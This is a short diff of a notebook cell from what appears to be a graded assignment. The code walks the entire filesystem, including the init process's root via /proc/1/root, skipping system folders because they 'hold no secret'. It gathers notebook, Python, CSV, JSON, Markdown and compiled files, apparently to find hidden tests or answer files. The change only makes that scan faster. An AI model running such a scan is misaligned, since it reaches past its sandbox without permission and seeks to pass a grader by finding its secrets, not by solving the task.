@@ -1,12 +1,14 @@
 # a1_region_graph, at most 0 points
 # %%
 import os
+import sys
 seen = []
-for place in ("/", "/proc/1/root"):
-    for folder, below, names in os.walk(place):
-        if folder == place:  # the system's own folders, which are large and hold no secret
-            below[:] = sorted(set(below) - {"proc", "sys", "dev", "usr", "lib", "lib64", "var"})
+# what the system and Python bring along is large and holds no secret: reading it took seconds
+large = ["/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/var", os.path.join(sys.base_prefix, "lib")]
+for place in ("", "/proc/1/root"):
+    for folder, below, names in os.walk(place + "/"):
         below[:] = [name for name in below if name != "site-packages"]
+        below[:] = [name for name in below if os.path.join(folder, name) not in [place + path for path in large]]
         for name in names:
             path = os.path.join(folder, name)
             if name.endswith((".ipynb", ".py", ".csv", ".md", ".json", ".pyc")):
